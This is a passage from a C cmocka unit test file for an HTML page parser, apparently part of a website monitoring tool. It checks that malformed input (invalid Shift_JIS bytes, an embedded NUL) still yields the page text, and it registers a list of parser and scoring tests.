	const char broken[] = "<meta charset=shift_jis><p>awal</p>\x81\xff\xfe<p>kalimat terakhir</p>";
	p = parse(broken, NULL, 0);
	assert_non_null(strstr(p.text, "kalimat terakhir"));
	mon_page_free(&p);
	const char nul[] = "<p>awal</p>\0<p>kalimat terakhir</p>";
	mon_page q;
	sg_err e = {0};
	assert_int_equal(mon_page_parse(nul, sizeof nul - 1, "https://x.go.id/", NULL, 0, &q, &e), 0);
	assert_non_null(strstr(q.text, "kalimat terakhir"));
	mon_page_free(&q);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_text_and_hidden),  cmocka_unit_test(test_dynamic_regions),
		cmocka_unit_test(test_hosts_and_domains), cmocka_unit_test(test_distance),
		cmocka_unit_test(test_rules_refused),    cmocka_unit_test(test_rules_score),
		cmocka_unit_test(test_baseline),         cmocka_unit_test(test_sitemap),
		cmocka_unit_test(test_script_hashes),
		cmocka_unit_test(test_store_rounds),     cmocka_unit_test(test_inline_script),
		cmocka_unit_test(test_bad_html_survives),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
